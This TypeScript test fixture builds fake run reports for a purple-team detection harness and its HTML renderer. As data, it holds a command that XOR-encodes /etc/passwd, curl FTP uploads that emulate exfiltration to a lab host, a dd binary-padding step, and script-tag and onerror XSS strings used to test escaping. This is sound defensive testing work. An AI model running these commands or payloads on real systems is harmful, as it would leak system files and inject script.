// Realistic RunReports for renderer tests: every verdict, both failure layers, repeats, a baseline,
// and run text that needs escaping (`<script>`, `&`, quotes, control characters).
import type { Alert } from '../../detectors/types.js';
import type { AnalyticVerdict, RunReport, ScenarioResult, StepOutcome, Verdict } from '../../harness/run/results.js';
import { summarizeAnalytics } from '../../harness/run/judge/index.js';

export const HOSTILE_COMMAND = `python3 -c "open('/tmp/out.bin','wb').write(bytes(b^0x5a for b in open('/etc/passwd','rb').read()))" && echo '<script>window.__pwned=1</script>' & true`;
export const HOSTILE_SUMMARY = `python3 wrote high-entropy /tmp/backup.tgz <img src=x onerror="window.__pwned=2"> & "quoted" \u0007bell`;

const T0 = Date.parse('2026-03-02T10:00:00.000Z');
const at = (seconds: number) => new Date(T0 + seconds * 1000).toISOString();

let clock = 0;
function window(seconds: number): { started: string; finished: string } {
  const started = at(clock);
  clock += seconds;
  return { started, finished: at(clock) };
}

function step(name: string, command: string, opts: Partial<StepOutcome> = {}): StepOutcome {
  const w = window(2);
  return {
    name,
    container: 'purple-target-1',
    user: 'analyst',
    launch: 'exec',
    started: w.started,
    finished: w.finished,
    exitCode: 0,
    timedOut: false,
    stdoutTail: '',
    stderrTail: '',
    command,
    pid: 4242,
    ...opts,
  };
}

function verdict(analytic: string, technique: string, v: Verdict, reason: string, extra: Partial<AnalyticVerdict> = {}): AnalyticVerdict {
  return {
    analytic,
    technique,
    expectation: v === 'detected' || v === 'missed' ? 'alert' : 'no-alert',
    verdict: v,
    reason,
    failedLayer: null,
    latencyMs: null,
    ...extra,
  };
}

function alert(analytic: string, detectionStrategy: string, technique: string, summary: string, seconds: number): Alert {
  return {
    analytic,
    detectionStrategy,
    technique,
    firstTime: at(seconds - 1),
    time: at(seconds),
    host: 'purple-target-1',
    summary,
    confidence: 'high',
    evidence: {
      eventIds: [`${Math.floor((T0 + seconds * 1000) / 1000)}.123:${1000 + seconds}`, `${Math.floor((T0 + seconds * 1000) / 1000)}.124:${1001 + seconds}`],
      processChain: [
        { pid: 4243, exe: '/usr/bin/python3.11', argv: ['python3', '-c', "open('/tmp/out.bin','wb')"], uid: 1000, tty: null },
        { pid: 4242, exe: '/usr/bin/bash', argv: ['bash', '-c', HOSTILE_COMMAND], uid: 1000, tty: null },
      ],
      artifacts: [
        {
          time: at(seconds),
          path: '/tmp/out.bin',
          size: 20480,
          entropy: 7.93,
          format: null,
          header: '2f3b1a09',
          mode: '0100644',
          ownerUid: 1000,
          sha256: 'a'.repeat(64),
          host: 'purple-target-1',
        },
      ],
      flows: [
        { time: at(seconds), protocol: 'tcp', src: '172.28.0.2', sport: 40112, dst: '172.28.0.3', dport: 21, bytesOut: 52000, bytesIn: 900, packetsOut: 40, packetsIn: 30, event: 'DESTROY', host: 'purple-target-1' },
      ],
      facts: { entropy: 7.93, interpreter: 'python3', archiveTool: false, note: null },
    },
  };
}

interface ScenarioSpec {
  id: string;
  name: string;
  kind: 'emulation' | 'benign';
  twinOf?: string;
  analytic: string;
  technique: string;
  verdicts: AnalyticVerdict[];
  alerts?: Alert[];
  steps?: StepOutcome[];
  telemetry?: Partial<ScenarioResult['telemetry']>;
  error?: string;
  repetition?: number;
  inputs?: ScenarioResult['inputs'];
}

function scenario(spec: ScenarioSpec): ScenarioResult {
  const steps = spec.steps ?? [step('run the procedure', `sh -c 'true'`)];
  const first = spec.verdicts[0];
  const result: ScenarioResult = {
    id: spec.id,
    name: spec.name,
    kind: spec.kind,
    twinOf: spec.twinOf ?? null,
    analytic: spec.analytic,
    technique: spec.technique,
    verdict: first?.verdict ?? 'error',
    latency_ms: first?.latencyMs ?? null,
    verdicts: spec.verdicts,
    inputs: spec.inputs ?? { target_dir: '/tmp', size_mb: 2, cleanup: true },
    started: steps[0]?.started ?? at(clock),
    finished: steps.at(-1)?.finished ?? at(clock),
    steps,
    telemetry: { auditEvents: 42, flows: 0, artifacts: 1, lostEvents: 0, complete: true, checks: [], ...spec.telemetry },
    alerts: spec.alerts ?? [],
    dir: `scenarios/${spec.id}${spec.repetition !== undefined ? `.${spec.repetition}` : ''}`,
    error: spec.error ?? null,
  };
  if (spec.repetition !== undefined) result.repetition = spec.repetition;
  return result;
}

export function makeScenarios(): ScenarioResult[] {
  clock = 0;
  const ftpAlert = (s: number) => alert('AN1170', 'DET0416', 'T1071.002', 'curl uploaded 52000 bytes to 172.28.0.3:21 (FTP) from a non-standard user', s);
  return [
    scenario({
      id: 'archive-xor-python',
      name: 'XOR-archive /etc/passwd with an inline Python loop',
      kind: 'emulation',
      analytic: 'AN1214',
      technique: 'T1560.003',
      steps: [step('xor the file', HOSTILE_COMMAND, { stdoutTail: '<script>window.__pwned=1</script>\n', stderrTail: 'warning: & unescaped\n' })],
      verdicts: [verdict('AN1214', 'T1560.003', 'detected', 'alert fired 850 ms after the write', { latencyMs: 850 })],
      alerts: [alert('AN1214', 'DET0438', 'T1560.003', HOSTILE_SUMMARY, 3)],
      telemetry: { checks: [{ description: 'execve of python3 seen', satisfied: true, eventIds: ['1772445602.123:1002'] }] },
    }),
    scenario({
      id: 'binary-padding-dd',
      name: 'Pad an ELF with dd from /dev/zero',
      kind: 'emulation',
      analytic: 'AN1529',
      technique: 'T1027.001',
      steps: [step('pad', 'dd if=/dev/zero bs=1M count=60 >> /tmp/payload', { exitCode: 0 })],
      verdicts: [verdict('AN1529', 'T1027.001', 'missed', 'open+write of /tmp/payload seen; detector stayed silent below FileSizeThresholdMB=100', { failedLayer: 'detector' })],
    }),
    scenario({
      id: 'ftp-exfil-curl',
      name: 'Upload an archive with curl over FTP',
      kind: 'emulation',
      analytic: 'AN1170',
      technique: 'T1071.002',
      steps: [step('upload', 'curl -T /tmp/out.bin ftp://172.28.0.3/', { exitCode: 7, stderrTail: 'curl: (7) Failed to connect' })],
      verdicts: [verdict('AN1170', 'T1071.002', 'missed', 'no conntrack flow to port 21 was collected', { failedLayer: 'collection' })],
      telemetry: { flows: 0, checks: [{ description: 'a flow to the FTP server', satisfied: false, eventIds: [] }] },
    }),
    scenario({
      id: 'archive-tar-benign',
      name: 'tar + gzip a backup (benign twin)',
      kind: 'benign',
      twinOf: 'archive-xor-python',
      analytic: 'AN1214',
      technique: 'T1560.003',
      steps: [step('backup', 'tar czf /tmp/backup.tgz /etc', { user: 'backup' })],
      verdicts: [verdict('AN1214', 'T1560.003', 'false-alarm', HOSTILE_SUMMARY, { latencyMs: 400, failedLayer: 'detector' })],
      alerts: [alert('AN1214', 'DET0438', 'T1560.003', HOSTILE_SUMMARY, 20)],
    }),
    scenario({
      id: 'binary-padding-benign',
      name: 'Copy a large log file',
      kind: 'benign',
      twinOf: 'binary-padding-dd',
      analytic: 'AN1529',
      technique: 'T1027.001',
      verdicts: [verdict('AN1529', 'T1027.001', 'quiet', 'no alert, as expected')],
    }),
    scenario({
      id: 'ftp-benign-mirror',
      name: 'Mirror packages from the internal FTP',
      kind: 'benign',
      analytic: 'AN1170',
      technique: 'T1071.002',
      verdicts: [verdict('AN1170', 'T1071.002', 'incomplete', 'telemetry incomplete: the kernel lost 12 audit events during the scenario', { failedLayer: 'collection' })],
      telemetry: { lostEvents: 12, complete: false },
    }),
    scenario({
      id: 'archive-broken',
      name: 'Archive with a missing interpreter',
      kind: 'emulation',
      analytic: 'AN1214',
      technique: 'T1560.003',
      steps: [step('xor', 'perl -e "xor"', { exitCode: null, timedOut: true })],
      verdicts: [],
      error: 'step "xor" timed out after 30 s',
    }),
    ...[1, 2, 3].map((rep) =>
      scenario({
        id: 'ftp-exfil-repeat',
        name: 'FTP upload, repeated',
        kind: 'emulation',
        analytic: 'AN1170',
        technique: 'T1071.002',
        repetition: rep,
        steps: [step('upload', 'curl -T /tmp/a ftp://172.28.0.3/')],
        verdicts: [
          rep === 2
            ? verdict('AN1170', 'T1071.002', 'missed', 'flow seen; bytesOut 900 below TransferSizeThreshold', { failedLayer: 'detector' })
            : verdict('AN1170', 'T1071.002', 'detected', 'alert fired', { latencyMs: 1000 + rep * 200 }),
        ],
        alerts: rep === 2 ? [] : [ftpAlert(40 + rep)],
        telemetry: { flows: 3 },
      }),
    ),
  ];
}

export function makeReport(overrides: Partial<RunReport> = {}): RunReport {
  const scenarios = overrides.scenarios ?? makeScenarios();
  return {
    schema_version: 1,
    run_id: '20260302-100000-ab12',
    started: '2026-03-02T10:00:00.000Z',
    finished: '2026-03-02T10:02:05.500Z',
    command: 'purple run --all --repeat 3',
    environment: {
      host: 'debian-ci',
      kernel: '6.1.0-31-amd64',
      auditd: '3.0.9',
      docker: '20.10.24+dfsg1',
      purple: '0.1.0',
      target: 'docker',
    },
    auditRules: ['-a always,exit -F arch=b64 -S execve -k purple-exec', '-a always,exit -F arch=b64 -S openat -F dir=/tmp -k purple-tmp'],
    config: {
      trustedCidrs: ['10.0.0.0/8'],
      standardUsers: ['deploy', 'backup'],
      thresholds: { AN1214: { EntropyThreshold: 7.2, ArchivePaths: ['/tmp', '/home'] }, AN1529: { FileSizeThresholdMB: 100 } },
    },
    scenarios,
    analytics: summarizeAnalytics(scenarios),
    baseline: null,
    warnings: ['auditd backlog reached 80% <of> limit & recovered'],
    ...overrides,
  };
}

/** A passing earlier run: padding was detected, the benign tar stayed quiet, one scenario since removed. */
export function makeBaselineReport(): RunReport {
  const current = makeScenarios();
  const scenarios = current
    .filter((s) => s.id !== 'archive-broken')
    .map((s) => {
      if (s.id === 'binary-padding-dd') return { ...s, verdict: 'detected' as const, verdicts: [{ ...s.verdicts[0]!, verdict: 'detected' as const, failedLayer: null, latencyMs: 700 }] };
      if (s.id === 'archive-tar-benign') return { ...s, verdict: 'quiet' as const, alerts: [], verdicts: [{ ...s.verdicts[0]!, verdict: 'quiet' as const, latencyMs: null }] };
      return s;
    });
  scenarios.push({ ...current[4]!, id: 'old-removed-scenario', name: 'Retired scenario' });
  return makeReport({ run_id: '20260301-090000-0000', scenarios, analytics: summarizeAnalytics(scenarios) });
}

/** The same suite fanned out over three targets, as `purple run --target A --target B --target C` reports it. */
export function makeMultiTargetReport(): RunReport {
  const targets = ['docker://debian-ci', 'ssh://analyst@10.0.0.5:22', 'docker+ssh://ci@10.0.0.6:2222'];
  const scenarios = targets.flatMap((target) => makeScenarios().map((s) => ({ ...s, target })));
  const report = makeReport({ scenarios });
  return { ...report, environment: { ...report.environment, target: targets.join(' ') } };
}
